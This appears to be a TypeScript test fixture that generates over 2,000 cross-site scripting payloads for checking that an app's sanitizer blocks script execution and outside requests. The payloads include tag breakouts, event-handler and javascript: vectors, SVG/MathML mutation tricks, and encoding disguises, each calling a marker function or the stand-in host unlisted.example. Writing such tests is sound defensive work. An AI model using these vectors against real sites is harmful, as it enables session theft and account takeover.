/** Markup that runs a script or asks for something, where a page takes it for its own. */
export interface InjectionPayload {
  id: number;
  /** Runs `ran(id)`, or asks `unlistedHost` for something, or both. */
  markup: string;
}

/** Nothing that a payload asks of this host is a picture that the journal may show. */
const unlistedHost = 'unlisted.example';

/** What ends the place that a text stands in. */
const breakouts = [
  ...[
    '',
    '">',
    "'>",
    '--><!-- --!>',
    ']]>',
    '</title>',
    '</script>',
    '</style></noscript>',
    '</textarea></template>',
  ],
  '</svg></math></table></p>',
];

/** Each runs `RUN` or asks for `//HOST/RUN`. */
const vectors = [
  '<script>RUN</script>',
  '<script src=https://HOST/s></script>',
  '<script type=module>RUN</script>',
  '<img src=https://HOST/i onerror=RUN>',
  '<img src=x: onerror="RUN">',
  "<img src='https://HOST/i' srcset='https://HOST/j 1x' onerror='RUN' onload='RUN'>",
  '<image src=x: onerror=RUN>',
  '<svg onload=RUN></svg>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>',
  '<svg><image href=https://HOST/i onerror=RUN /></svg>',
  '<svg><use href="https://HOST/u.svg#x"></use></svg>',
  '<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>',
  '<body onload=RUN onpageshow=RUN>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src=https://HOST/f onload=RUN></iframe>',
  '<frameset><frame src=https://HOST/f onload=RUN></frameset>',
  '<object data="https://HOST/o" onerror=RUN></object>',
  '<object data="javascript:RUN"></object>',
  '<embed src=https://HOST/e onload=RUN>',
  '<video src=https://HOST/v poster=https://HOST/p onerror=RUN></video>',
  '<video><source src=https://HOST/v onerror=RUN></video>',
  '<audio src=https://HOST/a autoplay onerror=RUN></audio>',
  '<details open ontoggle=RUN>x</details>',
  '<input autofocus onfocus=RUN>',
  '<input type=image src=https://HOST/i onerror=RUN>',
  '<select autofocus onfocus=RUN><option>x</select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<p tabindex=0 autofocus onfocus=RUN onpointerover=RUN onclick=RUN>x</p>',
  '<marquee onstart=RUN>x</marquee>',
  '<p style="animation:x 1s" onanimationstart=RUN>x</p>',
  '<meta http-equiv=refresh content="0;url=https://HOST/m">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href=https://HOST/>',
  '<link rel=stylesheet href=https://HOST/l.css onerror=RUN>',
  '<link rel=prefetch href=https://HOST/l>',
  '<style>@import "https://HOST/s.css"; * { background: url(https://HOST/b) }</style>',
  '<p style="background:url(https://HOST/b)">x</p>',
  '<table background=https://HOST/t><tr><td background=https://HOST/t>x</table>',
  '<a href="javascript:RUN" ping=https://HOST/p>x</a>',
  '<a href="java\tscript:RUN">x</a>',
  '<a href="data:text/html,<script>opener.RUN</script>">x</a>',
  '<form action="javascript:RUN"><button formaction="javascript:RUN" autofocus onfocus=RUN>x</button></form>',
  '<noscript><p title="</noscript><img src=x: onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
  '<svg></p><style><a id="</style><img src=x: onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>',
  '<template><img src=x: onerror=RUN></template><img src=x: onerror=RUN>',
  'javascript:RUN',
  'https://ferry.example/" onload="RUN" x="',
];

/** How somebody hides it. */
const disguises: ((markup: string) => string)[] = [
  (markup) => markup,
  // Read once, it is the markup; read twice, it would run.
  (markup) => markup.replace(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (markup) => markup.replace(/[<>"':]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (markup) =>
    markup
      .replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${swapCase(name)}`)
      .replace(/ (on\w+)=/g, '\f$1\u0009='),
];

/** A few more than 2,000 of them, always the same ones; or `count` of these, from all over. */
export function injectionPayloads(count = Infinity): InjectionPayload[] {
  let id = 0;
  const all = disguises.flatMap((disguise) =>
    breakouts.flatMap((breakout) =>
      vectors.map((vector) => {
        id += 1;
        const markup = vector.replaceAll('RUN', `ran(${id})`).replaceAll('HOST', `${unlistedHost}/${id}`);
        return { id, markup: disguise(breakout + markup) };
      }),
    ),
  );
  // A stride that has no factor with their number meets every vector before it meets one again.
  const indexes = Array.from({ length: Math.min(count, all.length) }, (_, at) => (at * 27) % all.length);
  return indexes.sort((one, other) => one - other).flatMap((index) => all[index] ?? []);
}

function swapCase(name: string): string {
  return [...name].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}
